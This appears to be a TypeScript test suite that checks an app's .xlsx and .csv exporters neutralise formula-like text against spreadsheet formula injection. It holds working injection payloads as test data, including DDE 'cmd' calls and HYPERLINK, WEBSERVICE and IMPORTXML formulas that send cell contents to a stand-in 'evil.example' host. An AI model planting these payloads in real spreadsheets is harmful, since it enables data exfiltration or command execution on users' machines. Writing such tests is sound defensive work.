/**
 * Issue 8, safe exports: every .xlsx and .csv the app writes keeps formula-like text (leading `=`,
 * `+`, `-`, `@`, tab, carriage return) harmless and readable. The database is seeded with such text in
 * every place an export shows (scan, initiative, activity, organisation, unmapped value); each
 * exporter is called through the app's own channels, and its file is read back WITHOUT SheetJS: the
 * zip and sheet XML by hand (tests/helpers/ooxml.ts readZip), the CSV by a small RFC 4180 parser here.
 *
 * .xlsx: no cell has a formula (`<f>`), and every formula-like text is a string cell, exactly as
 * written, whose cell format (`<xf>` in styles.xml `cellXfs`) has quotePrefix="1" — Excel's mark that
 * keeps it text even after a user edits the cell; no other cell has that mark. Re-importing the
 * exported scan gives the same data, planted texts included. No LibreOffice or Excel is needed. .csv: no field starts with a formula character; such text gets a leading apostrophe.
 *
 * Future exporters: EXPORTERS lists every exporting channel; a test fails when a channel named like
 * an export, or a module in src-main that writes spreadsheets, is not covered here.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { CHANNELS } from '../../src-shared/contract';
import { emptyFilter, type Filter } from '../../src-shared/filter';
import type { Db } from '../../src-main/db/open';
import { loadScanData } from '../../src-main/scans/export';
import { dispatch, isChannel } from '../../src-main/rpc/dispatch';
import { commitImport, prepareImport } from '../../src-main/import/pipeline';
import { invalidateIndex } from '../../src-main/activities/activity-index';
import { ensureSampleScan, sampleScanPath } from '../../src-main/import/sample';
import { writeCanonicalWorkbook } from '../../src-main/workbook/canonical-writer';
import { REPO_ROOT } from '../../src-main/version';
import { memoryDb, TEST_ENV } from '../helpers/db';
import { readZip } from '../helpers/ooxml';

const FORMULA_LIKE = /^[=+\-@\t\r]/;

/** Planted in the database; each must reach an export as this very text (a CSV adds one apostrophe). */
const PLANTED = {
  region: "=cmd|'/c calc'!A1",
  initiative: '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
  initiativeDescription: '@SUM(1+1)*cmd|\'/c calc\'!A0',
  website: '=WEBSERVICE("http://evil.example/")',
  activity: '+31 50 123 4567',
  activityDescription: '-2+3+cmd|\'/c calc\'!A0',
  activity2: '\t=1+1',
  activity2Description: '\r=1+1',
  organisation: '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  unmapped: '@HYPERLINK("http://evil.example")',
};
const PLANTED_TEXTS = Object.values(PLANTED);

interface Context {
  filter: Filter;
  scanIds: number[];
}

interface Exporter {
  channel: string;
  label: string;
  args: (ctx: Context) => unknown;
  /** False for files without the user's data (the template): they are still checked for formulas. */
  hasData: boolean;
}

/** Every exporting channel, with every format and table it offers. */
const EXPORTERS: Exporter[] = [
  { channel: 'export.activities', label: 'activities .xlsx', args: ({ filter }) => ({ filter, format: 'xlsx' }), hasData: true },
  { channel: 'export.activities', label: 'activities .xlsx (English)', args: ({ filter }) => ({ filter, format: 'xlsx', language: 'en' }), hasData: true },
  { channel: 'export.activities', label: 'activities .csv ;', args: ({ filter }) => ({ filter, format: 'csv', separator: ';' }), hasData: true },
  { channel: 'export.activities', label: 'activities .csv ,', args: ({ filter }) => ({ filter, format: 'csv', separator: ',' }), hasData: true },
  { channel: 'export.scan', label: 'scan as canonical workbook', args: ({ scanIds }) => ({ id: scanIds[1] }), hasData: true },
  { channel: 'import.template', label: 'empty template', args: () => ({}), hasData: false },
  { channel: 'surveys.template', label: 'impact questionnaire', args: ({ scanIds }) => ({ scan: scanIds[1] }), hasData: true },
  { channel: 'export.compare', label: 'Vergelijken .xlsx', args: ({ filter, scanIds }) => ({ filter, scans: scanIds }), hasData: true },
  { channel: 'export.changes', label: 'Ontwikkeling (change report) .xlsx', args: ({ filter, scanIds }) => ({ from: scanIds[0], to: scanIds[1], filter }), hasData: true },
  { channel: 'export.whitespots', label: 'Witte vlekken .xlsx', args: ({ filter }) => ({ filter, rows: 'sector', cols: 'type', layers: null, includeOther: true }), hasData: true },
  { channel: 'export.goals', label: 'Beleidsdoelen .xlsx', args: ({ scanIds }) => ({ scans: scanIds }), hasData: true },
  { channel: 'demand.template', label: 'empty demand table', args: () => ({}), hasData: false },
  // Initiatives without responses are listed by name, so the planted names reach the Impact export.
  { channel: 'export.impact', label: 'Impact .xlsx', args: ({ filter }) => ({ filter }), hasData: true },
  ...(['A', 'B', 'C'] as const).map(
    (lens): Exporter => ({
      channel: 'export.pairings',
      label: `Leer van elkaar lens ${lens} .xlsx`,
      args: ({ filter }) => ({ filter, lens, by: lens === 'B' ? 'activity' : 'initiative', top: 5000 }),
      hasData: true,
    }),
  ),
  ...(['dimension', 'typeGeography', 'typeBottleneck', 'reach', 'quadrant', 'providers'] as const).map(
    (table): Exporter => ({
      channel: 'overview.export',
      label: `Overzicht ${table} .xlsx`,
      args: ({ filter }) => ({ filter, table, ...(table === 'dimension' ? { dimension: 'sector' } : {}) }),
      hasData: table === 'dimension' || table === 'providers',
    }),
  ),
];

/** Modules that write spreadsheets, and the channels whose files they make (read-workbook.ts only reads). */
const WRITER_MODULES: Record<string, string[]> = {
  'src-main/activities/export.ts': ['export.activities'],
  'src-main/workbook/canonical-writer.ts': ['export.scan', 'import.template', 'surveys.template'],
  'src-main/workbook/template-lists.ts': ['import.template', 'surveys.template'],
  'src-main/surveys/template.ts': ['surveys.template'],
  'src-main/workbook/sheets.ts': ['export.activities', 'export.compare', 'export.pairings', 'export.changes'],
  'src-main/links/export.ts': ['export.changes'],
  'src-main/compare/export.ts': ['export.compare'],
  'src-main/whitespots/export.ts': ['export.whitespots'],
  'src-main/overview/export.ts': ['overview.export'],
  'src-main/pairings/export.ts': ['export.pairings'],
  'src-main/goals/export.ts': ['export.goals'],
  'src-main/demand/template.ts': ['demand.template'],
  'src-main/surveys/impact-export.ts': ['export.impact'],
};
const READERS = ['src-main/import/read-workbook.ts', 'src-main/import/open-workbook.ts'];

// ---------------------------------------------------------------------------------------------
// Reading the files back without SheetJS

function xmlText(xml: string): string {
  return xml
    .replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;/g, "'")
    .replace(/&#x([0-9a-f]+);/gi, (_m, h: string) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#(\d+);/g, (_m, d: string) => String.fromCodePoint(Number(d)))
    .replace(/_x([0-9A-F]{4})_/gi, (_m, h: string) => String.fromCharCode(parseInt(h, 16)))
    .replace(/&amp;/g, '&');
}

/** All <t> runs of a shared-string item or an inline string, joined. */
const runs = (xml: string) => [...xml.matchAll(/<t(?:\s[^>]*)?>([\s\S]*?)<\/t>/g)].map((m) => xmlText(m[1]!)).join('');

interface XlsxCell {
  part: string;
  ref: string;
  type: string;
  text: string;
  /** The cell's format: the xml of `cellXfs` entry `s` (0 when the cell has no `s`). */
  xf: string;
}

function readXlsx(bytes: Buffer): { parts: string[]; formulas: string[]; cells: XlsxCell[] } {
  const entries = readZip(bytes);
  const parts = entries.map((e) => e.name);
  const sstXml = entries.find((e) => e.name === 'xl/sharedStrings.xml')?.data.toString('utf8') ?? '';
  const sst = [...sstXml.matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) => runs(m[1]!));
  const stylesXml = entries.find((e) => e.name === 'xl/styles.xml')?.data.toString('utf8') ?? '';
  const cellXfs = /<cellXfs\b[^>]*>([\s\S]*?)<\/cellXfs>/.exec(stylesXml)?.[1] ?? '';
  const xfs = [...cellXfs.matchAll(/<xf\b[^>]*?(?:\/>|>[\s\S]*?<\/xf>)/g)].map((m) => m[0]);
  const formulas: string[] = [];
  const cells: XlsxCell[] = [];
  for (const e of entries.filter((x) => /^xl\/worksheets\/[^/]+\.xml$/.test(x.name))) {
    const xml = e.data.toString('utf8');
    for (const m of xml.matchAll(/<f[\s>/][\s\S]*?(?:<\/f>|\/>)/g)) formulas.push(`${e.name}: ${m[0]}`);
    for (const m of xml.matchAll(/<c\b([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)) {
      const attrs = m[1]!;
      const inner = m[2] ?? '';
      const type = /\bt="([^"]+)"/.exec(attrs)?.[1] ?? 'n';
      const ref = /\br="([^"]+)"/.exec(attrs)?.[1] ?? '?';
      const v = /<v>([\s\S]*?)<\/v>/.exec(inner)?.[1];
      const text = type === 's' ? sst[Number(v)] ?? '' : type === 'inlineStr' ? runs(inner) : xmlText(v ?? '');
      const xf = xfs[Number(/\bs="(\d+)"/.exec(attrs)?.[1] ?? 0)];
      if (xf === undefined) throw new Error(`${e.name} ${ref}: style not in styles.xml`);
      cells.push({ part: e.name, ref, type, text, xf });
    }
  }
  return { parts, formulas, cells };
}

/** RFC 4180, by hand: quoted fields may hold separators, quotes ("") and line breaks. */
function readCsv(bytes: Buffer, separator: string): string[][] {
  let text = bytes.toString('utf8');
  if (text.startsWith('\ufeff')) text = text.slice(1);
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = '';
  };
  const endRow = () => {
    endField();
    rows.push(row);
    row = [];
  };
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"' && field === '') quoted = true;
    else if (ch === separator) endField();
    else if (ch === '\r' && text[i + 1] === '\n') {
      endRow();
      i++;
    } else field += ch;
  }
  if (field !== '' || row.length > 0) endRow();
  return rows;
}

// ---------------------------------------------------------------------------------------------

function writerModules(): string[] {
  const out: string[] = [];
  const walk = (dir: string) => {
    for (const entry of readdirSync(dir, { withFileTypes: true })) {
      const path = join(dir, entry.name);
      if (entry.isDirectory()) walk(path);
      else if (entry.name.endsWith('.ts') && /from 'xlsx'|csvField\(|sheet_to_csv/.test(readFileSync(path, 'utf8'))) out.push(relative(REPO_ROOT, path));
    }
  };
  walk(join(REPO_ROOT, 'src-main'));
  return out.filter((p) => !p.endsWith('safe-cells.ts')).sort();
}

describe('safe exports (issue 8)', () => {
  let db: Db;
  const ctx: Context = { filter: emptyFilter(), scanIds: [] };

  beforeAll(async () => {
    db = await memoryDb();
    const sample = sampleScanPath(join(REPO_ROOT, 'data'));
    const first = (await ensureSampleScan(db, sample))!;
    const prepared = await prepareImport(db, readFileSync(sample), 'tweede.xlsx', { region: 'Tweede regio', year: 2023 });
    const second = commitImport(db, prepared, () => 'keep-both')[0]!.scanId;
    ctx.scanIds = [first, second];
    // Formula-like text everywhere an export shows the user's data (in the second scan).
    const ini = db.prepare('SELECT min(id) FROM initiative WHERE scan_id = ?').pluck().get(second) as number;
    const [a1, a2] = db.prepare('SELECT id FROM activity WHERE initiative_id = ? ORDER BY id LIMIT 2').pluck().all(ini) as number[];
    db.prepare('UPDATE scan SET region = ? WHERE id = ?').run(PLANTED.region, second);
    db.prepare('UPDATE initiative SET name = ?, description = ?, website = ? WHERE id = ?').run(PLANTED.initiative, PLANTED.initiativeDescription, PLANTED.website, ini);
    db.prepare('UPDATE activity SET name = ?, description = ? WHERE id = ?').run(PLANTED.activity, PLANTED.activityDescription, a1);
    db.prepare('UPDATE activity SET name = ?, description = ? WHERE id = ?').run(PLANTED.activity2, PLANTED.activity2Description, a2);
    // The organisation with the most activities, so that the Overzicht's providers table shows it too.
    const org = db.prepare('SELECT organisation_id FROM provider GROUP BY organisation_id ORDER BY count(DISTINCT activity_id) DESC, organisation_id LIMIT 1').pluck().get() as number;
    db.prepare('UPDATE organisation SET name = ? WHERE id = ?').run(PLANTED.organisation, org);
    const value = Number(db.prepare(`INSERT INTO dimension_value (dimension, code, label_nl, label_en, kind, match_key) VALUES ('sector', NULL, ?, ?, 'unmapped', 'planted')`).run(PLANTED.unmapped, PLANTED.unmapped).lastInsertRowid);
    db.prepare('INSERT INTO activity_value (activity_id, value_id) VALUES (?, ?)').run(a1, value);
    invalidateIndex(db);
    // A goal over everything, named like a formula, so the goals export holds planted texts in every sheet.
    expect((await dispatch(db, 'goals.add', { name: PLANTED.region, filter: emptyFilter() }, TEST_ENV)).ok).toBe(true);
  });

  it('covers every exporting channel and every module that writes spreadsheets', () => {
    const covered = new Set(EXPORTERS.map((e) => e.channel));
    const exportLike = CHANNELS.filter((c) => /(^export\.|\.export$|template)/.test(c) && c !== 'filters.export' && c !== 'mappings.export' && c !== 'dbmerge.export');
    expect(exportLike.filter((c) => !covered.has(c))).toEqual([]);
    expect(writerModules().filter((m) => !READERS.includes(m) && !(m in WRITER_MODULES))).toEqual([]);
    for (const channels of Object.values(WRITER_MODULES)) for (const c of channels) expect(covered.has(c)).toBe(true);
  });

  it('hands a saved filter over as JSON, not as a spreadsheet', async () => {
    const saved = await dispatch(db, 'filters.save', { name: '=cmd', filter: emptyFilter() }, TEST_ENV);
    const reply = await dispatch(db, 'filters.export', { id: (saved as { ok: true; value: { id: number } }).value.id }, TEST_ENV);
    expect(reply.ok && (reply.value as { fileName: string }).fileName).toMatch(/\.json$/);
  });

  it('hands scans over as a SQLite database, not as a spreadsheet (no cell a spreadsheet would evaluate)', async () => {
    const reply = await dispatch(db, 'dbmerge.export', { scans: [ctx.scanIds[0]!] }, TEST_ENV);
    expect(reply.ok && (reply.value as { fileName: string }).fileName).toMatch(/\.sqlite$/);
    expect(reply.ok && Buffer.from((reply.value as { data: string }).data, 'base64').subarray(0, 16).toString('latin1')).toBe('SQLite format 3\0');
  });

  it('re-imports the exported scan, formula-like texts and quotePrefix styles included, as the same data', async () => {
    // Formula-like texts the importer keeps verbatim (it trims leading whitespace, so no tab/CR here,
    // and splits coded cells on "/", so none in a value cell), in a scan imported from the canonical form.
    const data = loadScanData(db, ctx.scanIds[0]!);
    data.scan.region = PLANTED.region;
    data.scan.notes = PLANTED.initiativeDescription;
    data.initiatives[0]!.description = PLANTED.activityDescription;
    data.initiatives[0]!.website = PLANTED.website;
    data.activities[0]!.name = PLANTED.activity;
    data.activities[0]!.description = PLANTED.initiative;
    data.activities[0]!.providers[0]!.organisation = PLANTED.organisation;
    data.activities[0]!.unmapped = { sector: ['@SUM(1+1)'] };
    const source = await memoryDb();
    const [imported] = commitImport(source, await prepareImport(source, writeCanonicalWorkbook(data), 'planted.xlsx'), () => 'keep-both');
    const before = loadScanData(source, imported!.scanId);

    const reply = await dispatch(source, 'export.scan', { id: imported!.scanId }, TEST_ENV);
    if (!reply.ok) throw new Error(reply.error.message.en);
    const bytes = Buffer.from((reply.value as { data: string }).data, 'base64');
    const quoted = readXlsx(bytes).cells.filter((c) => /quotePrefix="1"/.test(c.xf)).map((c) => c.text);
    for (const text of [PLANTED.region, PLANTED.activity, PLANTED.initiative, PLANTED.organisation]) expect(quoted).toContain(text);

    const other = await memoryDb();
    const [result] = commitImport(other, await prepareImport(other, bytes, 'export.xlsx'), () => 'keep-both');
    expect(result!.issues.filter((i) => i.severity !== 'unmapped')).toEqual([]);
    expect(loadScanData(other, result!.scanId)).toEqual(before);
    expect(before.activities[0]!.name).toBe(PLANTED.activity);
    expect(before.activities[0]!.unmapped).toEqual({ sector: ['@SUM(1+1)'] });
  });

  for (const exporter of EXPORTERS) {
    it(`${exporter.label} (${exporter.channel})`, async (test) => {
      if (!isChannel(exporter.channel)) test.skip();
      const reply = await dispatch(db, exporter.channel, exporter.args(ctx), TEST_ENV);
      if (!reply.ok) throw new Error(`${exporter.channel}: ${reply.error.message.en}`);
      const file = reply.value as { fileName: string; data: string };
      const bytes = Buffer.from(file.data, 'base64');
      let found: string[];
      if (file.fileName.endsWith('.csv')) {
        const fields = readCsv(bytes, (exporter.args(ctx) as { separator: string }).separator).flat();
        expect(fields.filter((f) => FORMULA_LIKE.test(f))).toEqual([]);
        // Neutralised with a leading apostrophe (and one after a tab or CR inside: a reader may split
        // there), the text otherwise exactly as written.
        const bare = (t: string) => t.replace(/'/g, '');
        const unquoted = fields.filter((f) => f.startsWith("'") && FORMULA_LIKE.test(f.slice(1))).map((f) => bare(f));
        expect(unquoted.every((t) => PLANTED_TEXTS.some((p) => t.includes(bare(p))))).toBe(true);
        found = PLANTED_TEXTS.filter((p) => unquoted.some((t) => t.includes(bare(p))));
      } else {
        expect(file.fileName).toMatch(/\.xlsx$/);
        const { parts, formulas, cells } = readXlsx(bytes);
        expect(formulas).toEqual([]);
        expect(parts.filter((p) => /vbaProject|externalLink|activeX|oleObject/i.test(p))).toEqual([]);
        const risky = cells.filter((c) => FORMULA_LIKE.test(c.text));
        expect(risky.filter((c) => !['s', 'inlineStr', 'str'].includes(c.type))).toEqual([]);
        found = PLANTED_TEXTS.filter((p) => cells.some((c) => c.text.includes(p)));
        // Kept exactly: a planted text that starts a cell is that cell's whole text or its first part.
        for (const c of risky) expect(PLANTED_TEXTS.some((p) => c.text.startsWith(p.split('(')[0]!)), `${c.part} ${c.ref}: ${JSON.stringify(c.text)}`).toBe(true);
        // Stays text after editing in Excel: quotePrefix on exactly the formula-like cells.
        const quoted = (c: XlsxCell) => /^<xf\b[^>]*\squotePrefix="1"/.test(c.xf);
        expect(risky.filter((c) => !quoted(c)).map((c) => `${c.part} ${c.ref}`)).toEqual([]);
        expect(cells.filter((c) => quoted(c) && !FORMULA_LIKE.test(c.text)).map((c) => `${c.part} ${c.ref}`)).toEqual([]);
      }
      if (exporter.hasData) expect(found.length, `planted texts in ${exporter.label}`).toBeGreaterThan(0);
    });
  }

  it('a .csv read with the other separator (or tab) holds no formula either (issue 13)', async () => {
    // Text that starts a formula right after the other separator: a file written with ',' and opened
    // by a spreadsheet that splits on ';' (a Dutch Excel) must not hand it "=HYPERLINK(…)" as a cell.
    const split = ['Zie;=HYPERLINK("http://evil.example/";"x")', 'a,@SUM(1+1)', 'b\t=1+1', 'c";=1+1'];
    const [a3, a4] = db.prepare('SELECT a.id FROM activity a JOIN initiative i ON i.id = a.initiative_id WHERE i.scan_id = ? ORDER BY a.id DESC LIMIT 2').pluck().all(ctx.scanIds[1]) as number[];
    db.prepare('UPDATE activity SET name = ?, description = ? WHERE id = ?').run(split[0], split[1], a3);
    db.prepare('UPDATE activity SET name = ?, description = ? WHERE id = ?').run(split[2], split[3], a4);
    invalidateIndex(db);
    for (const separator of [';', ','] as const) {
      const reply = await dispatch(db, 'export.activities', { filter: ctx.filter, format: 'csv', separator }, TEST_ENV);
      if (!reply.ok) throw new Error(reply.error.message.en);
      const bytes = Buffer.from((reply.value as { data: string }).data, 'base64');
      // Read as written, every text comes back whole, with apostrophes added and nothing else changed.
      const own = readCsv(bytes, separator).flat().map((f) => f.replace(/'/g, ''));
      for (const text of split) expect(own).toContain(text);
      for (const readWith of [';', ',', '\t']) {
        const fields = readCsv(bytes, readWith).flat();
        expect(fields.filter((f) => FORMULA_LIKE.test(f)), `written with '${separator}', read with '${readWith}'`).toEqual([]);
      }
    }
  });
});
